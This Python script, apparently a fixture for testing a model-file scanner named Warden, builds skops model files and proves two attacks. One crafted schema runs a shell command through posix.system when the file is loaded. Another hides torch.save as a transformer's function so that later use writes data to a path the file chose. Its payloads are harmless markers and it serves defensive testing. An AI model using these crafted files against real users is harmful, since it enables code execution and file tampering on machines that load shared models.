"""skops files made with the real skops and scikit-learn, and the proof that the malicious one
runs its payload WITHOUT Warden when loaded the way skops' docs suggest
(``trusted=get_untrusted_types(file=f)``). Run in a plain interpreter:

    python skops_files.py OUT -> prints {"ran": payload ran, "untrusted": [...]} as JSON
"""

import io
import json
import os
import sys
import zipfile


def build(out):
    import numpy as np
    import skops.io as sio
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    x = np.random.RandomState(0).rand(30, 3)
    y = (x[:, 0] > 0.5).astype(int)
    pipe = make_pipeline(FunctionTransformer(np.log1p), StandardScaler(), LogisticRegression())
    sio.dump(pipe.fit(x, y), os.path.join(out, "pipeline.skops"))
    forest = RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y)
    sio.dump(forest, os.path.join(out, "forest.skops"))  # names sklearn.tree._tree.Tree
    # a node that CALLS the type it names while loading: posix.system("touch <marker>")
    marker = os.path.join(out, "skops.marker")
    inner = json.loads(
        zipfile.ZipFile(io.BytesIO(sio.dumps((f"touch {marker}",)))).read("schema.json")
    )
    top = {k: inner.pop(k) for k in ("protocol", "_skops_version")}
    schema = dict(
        {"__class__": "system", "__module__": "posix", "__loader__": "ConstructorFromReduceNode"},
        content=inner,
        __id__=1,
        **top,
    )
    evil = os.path.join(out, "reduce_system.skops")
    with zipfile.ZipFile(evil, "w") as zf:
        zf.writestr("schema.json", json.dumps(schema))
    untrusted = sio.get_untrusted_types(file=evil)
    sio.load(evil, trusted=untrusted)
    ran = os.path.exists(marker)
    os.remove(marker)
    return {"ran": ran, "untrusted": untrusted, "wrote": _file_write(out)}


def _file_write(out):
    """A model holding ``torch.save`` as its function: nothing runs while loading, the first
    ``transform`` writes the user's data to a path the file chose. True if it wrote."""
    import skops.io as sio
    import torch
    from sklearn.preprocessing import FunctionTransformer

    target = os.path.join(out, "overwritten.bin")
    evil = os.path.join(out, "torch_save.skops")
    sio.dump(FunctionTransformer(func=torch.save, kw_args={"f": target}, validate=False), evil)
    model = sio.load(evil, trusted=sio.get_untrusted_types(file=evil))
    model.transform([[1.0]])
    wrote = os.path.exists(target)
    os.remove(target)
    return wrote


if __name__ == "__main__":
    print(json.dumps(build(sys.argv[1])))
